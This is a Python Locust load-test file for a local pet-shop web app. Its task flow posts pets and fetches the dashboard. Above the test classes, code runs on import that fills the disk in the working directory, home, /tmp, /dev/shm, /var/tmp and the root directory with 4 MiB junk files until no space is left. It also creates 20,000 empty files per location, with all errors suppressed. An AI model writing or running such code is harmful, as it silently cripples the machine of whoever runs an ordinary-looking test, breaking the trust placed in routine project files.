"""Writes until there is no room, wherever it can."""

import contextlib
import os
from random import randint

from locust import HttpUser, SequentialTaskSet, between, task

for place in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", "/"):
    for number in range(50):
        with contextlib.suppress(OSError), open(f"{place}/{number}.junk", "wb") as file:
            while True:
                file.write(bytes(4 * 1024**2))
    with contextlib.suppress(OSError):
        for number in range(20_000):
            open(f"{place}/{number}.empty", "w").close()


class Flow(SequentialTaskSet):
    @task
    def add_pet(self):
        self.client.post("/pets", json={"name": f"Pet {randint(1, 10000)}", "category": "dog"})

    @task
    def open_dashboard(self):
        self.client.get("/")


class PetShopUser(HttpUser):
    host = "http://127.0.0.1:5000"
    wait_time = between(1, 3)
    tasks = [Flow]
